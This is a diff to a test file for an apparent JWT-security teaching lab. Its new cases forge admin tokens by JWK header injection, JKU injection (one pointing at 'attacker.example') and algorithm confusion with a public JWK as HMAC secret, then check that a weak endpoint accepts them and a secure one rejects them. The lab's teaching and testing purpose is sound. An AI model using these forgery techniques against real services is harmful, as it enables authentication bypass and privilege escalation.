@@ -1,5 +1,6 @@
-import { createHmac } from 'node:crypto';
+import { createHmac, createPublicKey, generateKeyPairSync, type JsonWebKey } from 'node:crypto';
 import { DEMO_USERS } from '@authlab/shared';
+import jwt from 'jsonwebtoken';
 import { expect } from 'vitest';
 import type { Learner } from './learner.js';
 import { describeLessonSteps } from './lesson-steps.js';
@@ -41,6 +42,28 @@ async function sendToBoth(learner: Learner, exercise: string, expected?: [number
   const weak = await learner.send('GET', `/api/lab/${exercise}/weak`);
   const secure = await learner.send('GET', `/api/lab/${exercise}/secure`);
   if (expected) expect([weak.status, secure.status]).toEqual([...expected]);
+}
+
+/** "Sign with a private key": ES256 with a PEM or KeyObject, header and claims as edited. */
+function signEs256(learner: Learner, change: { header?: Json; claims?: Json }, key: jwt.Secret) {
+  const [headerPart, payloadPart] = learner.token!.split('.');
+  const header = { ...decode(headerPart!), ...change.header, alg: 'ES256' };
+  const claims = { ...decode(payloadPart!), ...change.claims };
+  learner.useToken(jwt.sign(claims, key, { algorithm: 'ES256', header: header }));
+}
+
+async function attackerPem(learner: Learner): Promise<string> {
+  const response = await learner.send('GET', '/api/lab/attacker/private-key', { as: 'none' });
+  return (response.body as { pem: string }).pem;
+}
+
+/** "Secret from a public JWK": the JWKS's key as SubjectPublicKeyInfo PEM text. */
+async function pemFromJwks(learner: Learner): Promise<string> {
+  const response = await learner.send('GET', '/api/lab/jwks-issuer/jwks.json', { as: 'none' });
+  const { keys } = response.body as { keys: JsonWebKey[] };
+  return createPublicKey({ key: keys[0]!, format: 'jwk' })
+    .export({ format: 'pem', type: 'spki' })
+    .toString();
 }
 
 async function publicPem(learner: Learner): Promise<string> {
@@ -127,6 +150,27 @@ const forgeConfusion = async (learner: Learner) => {
   await startFrom(learner, 'algorithm-confusion');
   edit(learner, { claims: { role: 'admin' } }, { hs256: pem });
 };
+/** "Generate a new ES256 key pair", "Put its public key in the header (jwk)". */
+const forgeJwk = async (learner: Learner) => {
+  const mine = generateKeyPairSync('ec', { namedCurve: 'prime256v1' });
+  await startFrom(learner, 'jwk-injection');
+  signEs256(
+    learner,
+    { header: { jwk: mine.publicKey.export({ format: 'jwk' }) }, claims: { role: 'admin' } },
+    mine.privateKey,
+  );
+};
+const ATTACKER_JKU = 'http://127.0.0.1:3000/api/lab/attacker/jwks.json';
+const forgeJku = async (learner: Learner) => {
+  const pem = await attackerPem(learner);
+  await startFrom(learner, 'jku-injection');
+  signEs256(learner, { header: { jku: ATTACKER_JKU }, claims: { role: 'admin' } }, pem);
+};
+const forgeConfusionJwk = async (learner: Learner) => {
+  const pem = await pemFromJwks(learner);
+  await startFrom(learner, 'algorithm-confusion-jwk');
+  edit(learner, { claims: { role: 'admin' } }, { hs256: pem });
+};
 const forgeKid = async (learner: Learner) => {
   await startFrom(learner, 'kid-path-traversal');
   edit(
@@ -196,6 +240,72 @@ describeLessonSteps('09-attacking-jwts.md', {
       },
     },
   },
+  'jwk-injection': {
+    solution: async (learner) => {
+      await forgeJwk(learner);
+      await sendToBoth(learner, 'jwk-injection', [200, 401]);
+    },
+    lazy: {
+      ...lazyPaths('jwk-injection', forgeJwk),
+      'role admin, old signature kept (another attack), sent to both': forgedForAnother(
+        keepSignature('jwk-injection'),
+        'jwk-injection',
+      ),
+      'a jwk in the header, signed by another key': async (learner) => {
+        const embedded = generateKeyPairSync('ec', { namedCurve: 'prime256v1' });
+        const signer = generateKeyPairSync('ec', { namedCurve: 'prime256v1' });
+        await startFrom(learner, 'jwk-injection');
+        signEs256(
+          learner,
+          {
+            header: { jwk: embedded.publicKey.export({ format: 'jwk' }) },
+            claims: { role: 'admin' },
+          },
+          signer.privateKey,
+        );
+        await sendToBoth(learner, 'jwk-injection');
+      },
+      'signed with an own key, but no jwk in the header': async (learner) => {
+        const mine = generateKeyPairSync('ec', { namedCurve: 'prime256v1' });
+        await startFrom(learner, 'jwk-injection');
+        signEs256(learner, { claims: { role: 'admin' } }, mine.privateKey);
+        await sendToBoth(learner, 'jwk-injection');
+      },
+    },
+  },
+  'jku-injection': {
+    solution: async (learner) => {
+      await forgeJku(learner);
+      await sendToBoth(learner, 'jku-injection', [200, 401]);
+    },
+    lazy: {
+      ...lazyPaths('jku-injection', forgeJku),
+      'role admin, old signature kept (another attack), sent to both': forgedForAnother(
+        keepSignature('jku-injection'),
+        'jku-injection',
+      ),
+      'a jku that points anywhere but the lab': async (learner) => {
+        const pem = await attackerPem(learner);
+        await startFrom(learner, 'jku-injection');
+        signEs256(
+          learner,
+          { header: { jku: 'https://attacker.example/jwks.json' }, claims: { role: 'admin' } },
+          pem,
+        );
+        await sendToBoth(learner, 'jku-injection');
+      },
+      "the attacker's jku, signed with another key": async (learner) => {
+        const other = generateKeyPairSync('ec', { namedCurve: 'prime256v1' });
+        await startFrom(learner, 'jku-injection');
+        signEs256(
+          learner,
+          { header: { jku: ATTACKER_JKU }, claims: { role: 'admin' } },
+          other.privateKey,
+        );
+        await sendToBoth(learner, 'jku-injection');
+      },
+    },
+  },
   'kid-path-traversal': {
     solution: async (learner) => {
       await forgeKid(learner);
@@ -238,6 +348,34 @@ describeLessonSteps('09-attacking-jwts.md', {
         await startFrom(learner, 'algorithm-confusion');
         edit(learner, { claims: { role: 'admin' } }, { hs256: 'secret' });
         await sendToBoth(learner, 'algorithm-confusion');
+      },
+    },
+  },
+  'algorithm-confusion-jwk': {
+    solution: async (learner) => {
+      await forgeConfusionJwk(learner);
+      await sendToBoth(learner, 'algorithm-confusion-jwk', [200, 401]);
+    },
+    lazy: {
+      ...lazyPaths('algorithm-confusion-jwk', forgeConfusionJwk),
+      'role admin, old signature kept (another attack), sent to both': forgedForAnother(
+        keepSignature('algorithm-confusion-jwk'),
+        'algorithm-confusion-jwk',
+      ),
+      "the other issuer's PEM as the secret": async (learner) => {
+        const pem = await publicPem(learner);
+        await startFrom(learner, 'algorithm-confusion-jwk');
+        edit(learner, { claims: { role: 'admin' } }, { hs256: pem });
+        await sendToBoth(learner, 'algorithm-confusion-jwk');
+      },
+      'the JWK itself, as JSON text, as the secret': async (learner) => {
+        const response = await learner.send('GET', '/api/lab/jwks-issuer/jwks.json', {
+          as: 'none',
+        });
+        const { keys } = response.body as { keys: JsonWebKey[] };
+        await startFrom(learner, 'algorithm-confusion-jwk');
+        edit(learner, { claims: { role: 'admin' } }, { hs256: JSON.stringify(keys[0]) });
+        await sendToBoth(learner, 'algorithm-confusion-jwk');
       },
     },
   },
